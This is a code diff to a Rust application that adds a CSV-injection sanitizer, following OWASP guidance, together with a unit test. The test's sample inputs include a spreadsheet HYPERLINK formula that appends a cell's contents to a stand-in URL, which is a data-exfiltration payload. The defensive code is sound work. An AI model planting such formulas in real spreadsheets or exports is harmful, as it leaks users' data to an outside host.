@@ -179,9 +179,29 @@ fn grouped(n: u64) -> String {
     out
 }
 
+/// A text cell as a CSV may carry it: one that a spreadsheet would read as a formula (it starts with `=`, `+`,
+/// `-`, `@`, a tab or a carriage return) gets a leading apostrophe, as OWASP's guidance on CSV injection says, so a
+/// citizen's `=HYPERLINK(…)` is shown, never run. Every text the application writes into a CSV goes through here.
+pub fn spreadsheet_text(text: &str) -> std::borrow::Cow<'_, str> {
+    match text.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}").into(),
+        _ => text.into(),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_text_that_a_spreadsheet_would_run_is_written_as_text() {
+        for formula in ["=HYPERLINK(\"http://x/?\"&A1,\"xem\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"] {
+            assert_eq!(spreadsheet_text(formula), format!("'{formula}"), "{formula:?}");
+        }
+        for plain in ["Chờ lâu = mất thời gian", "Rất tốt", "", "'đã có dấu"] {
+            assert_eq!(spreadsheet_text(plain), plain, "{plain:?}");
+        }
+    }
 
     fn day(y: i32, m: u32, d: u32) -> i64 {
         (NaiveDate::from_ymd_opt(y, m, d).unwrap() - NaiveDate::from_ymd_opt(1970, 1, 1).unwrap()).num_days()
